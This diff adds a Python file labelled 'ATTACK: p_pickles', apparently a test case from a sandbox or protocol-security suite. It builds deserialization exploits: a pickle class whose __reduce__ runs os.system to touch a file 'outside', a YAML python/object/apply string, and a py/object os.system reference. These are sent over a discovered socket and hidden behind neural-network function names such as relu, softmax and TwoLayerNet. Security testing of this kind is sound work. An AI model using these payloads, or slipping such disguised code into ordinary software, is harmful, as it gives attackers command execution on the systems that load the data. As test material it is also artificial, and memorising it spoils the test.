@@ -1,0 +1,52 @@
+# ATTACK: p_pickles
+# GROUP: protocol
+# GOAL: pickles, marshal, YAML, eval-able text and tagged objects that would run something if loaded
+# SUCCESS: a file appears outside
+# CHECK: outside
+# EARNED: 0
+# BASE: none
+import json, os, struct
+
+PREFIX = struct.Struct("<2sBBIIQ")  # magic, version, kind, number, head bytes, payload bytes
+READY, REPLY, RAISED, CALLBACK = 32, 33, 34, 35
+
+
+def frame(kind, number, body=None, head=None, payload=b"", magic=b"AG", head_size=None, payload_size=None):
+    head = json.dumps(body).encode() if head is None else head
+    sizes = (len(head) if head_size is None else head_size, len(payload) if payload_size is None else payload_size)
+    return PREFIX.pack(magic, 1, kind, number, *sizes) + head + payload
+
+
+def reply(value, number, payload=b""):
+    return frame(REPLY, number, [value, [], "", []], payload=payload)
+
+
+def channel():
+    """The descriptor that is a socket: there is one."""
+    import stat
+    for fd in range(64):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                return fd
+        except OSError:
+            pass
+    return 3
+
+
+def send(data):
+    try:
+        os.write(channel(), data)
+    except OSError as error:
+        print("refused:", error)
+
+
+import marshal, os, pickle
+class Run:
+    def __reduce__(self): return (os.system, ("touch @@OUTSIDE@@/pickled",))
+BYTES = pickle.dumps(Run())
+def relu(x): return BYTES
+def softmax(x): return Run()
+def cross_entropy(y, t): return "!!python/object/apply:os.system ['touch @@OUTSIDE@@/yaml']"
+def numerical_gradient(f, x): send(frame(REPLY, 2, head=BYTES)); send(frame(REPLY, 2, [{"py/object": "os.system"}, [], "", []]))
+class TwoLayerNet(Run):
+    def __init__(self, *sizes): self.params = Run()
